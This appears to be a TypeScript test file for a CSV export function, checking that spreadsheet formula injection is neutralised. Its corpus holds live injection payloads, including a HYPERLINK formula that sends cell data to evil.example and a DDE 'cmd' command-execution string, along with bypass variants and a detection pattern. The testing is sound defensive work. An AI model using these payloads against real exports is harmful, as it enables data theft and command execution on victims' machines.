import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { csvRow } from "@/lib/server/jobs/csv";

/** RFC 4180, read by the letter: what a spreadsheet makes of our rows. */
function parse(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = "";
  for (let at = 0; at < text.length; at++) {
    const char = text[at];
    if (char === '"') {
      for (at++; at < text.length; at++) {
        if (text[at] !== '"') cell += text[at];
        else if (text[at + 1] === '"') cell += text[at++];
        else break;
      }
    } else if (char === ",") {
      row.push(cell);
      cell = "";
    } else if (char === "\r" && text[at + 1] === "\n") {
      rows.push([...row, cell]);
      row = [];
      cell = "";
      at++;
    } else cell += char ?? "";
  }
  expect([row, cell]).toEqual([[], ""]);
  return rows;
}

const CORPUS = [
  "=1+1",
  '=HYPERLINK("https://evil.example?"&A1,"click")',
  "+1+cmd|' /C calc'!A0",
  "-2+3",
  "@SUM(A1:A9)",
  "\t=1+1",
  "\r=1+1",
  "\n=1+1",
  "\u0000=1+1",
  "\u000b=1+1",
  "＝1+1",
  "＋1",
  "－1",
  "＠SUM(1)",
  '=1+1";=1+1',
  "=1,=2",
  '"=1+1',
  " =1+1",
  "\u00a0=1+1",
  "\ufeff=1+1",
  "\u200b=1+1",
];
const RUNS = /^[\s\u0000-\u0020\u00a0\u200b-\u200f\u2060\ufeff"]*[=+\-@＝＋－＠]|^[\t\r\n\0]/;

describe("a text that a spreadsheet would run", () => {
  test.each(CORPUS)("%j is made harmless, and nothing of it is lost", (text) => {
    const [row] = parse(csvRow([text, "next"]));
    expect(row).toEqual([`'${text}`, "next"]);
    expect(row?.[0]).not.toMatch(RUNS);
  });
});

test("numbers stay numbers, also negative ones; nothing is an empty cell", () => {
  expect(csvRow([-5, 1e21, 0, true, null, undefined, ""])).toBe("-5,1e+21,0,true,,,\r\n");
});

test("ordinary texts are as they are, with commas, quotes and line ends", () => {
  const texts = ["select 1", "a,b", 'say "hi"', "two\r\nlines", "a=b", "日本 ＝ x"];
  expect(parse(csvRow(texts))).toEqual([texts]);
});

test("any rows come back with their number of rows and columns, and no cell that runs", () => {
  const cell = fc.oneof(fc.string(), fc.string({ unit: "binary" }), fc.constantFrom(...CORPUS, "\r", ",", '"'));
  const rows = fc.array(fc.tuple(cell, cell, cell), { minLength: 1, maxLength: 20 });
  fc.assert(
    fc.property(rows, (wanted) => {
      const back = parse(wanted.map((row) => csvRow(row)).join(""));
      expect(back.map((row) => row.length)).toEqual(wanted.map(() => 3));
      for (const [r, row] of back.entries()) {
        for (const [c, text] of row.entries()) {
          expect(text).not.toMatch(RUNS);
          expect([wanted[r]?.[c], `'${wanted[r]?.[c]}`]).toContain(text);
        }
      }
    }),
  );
});
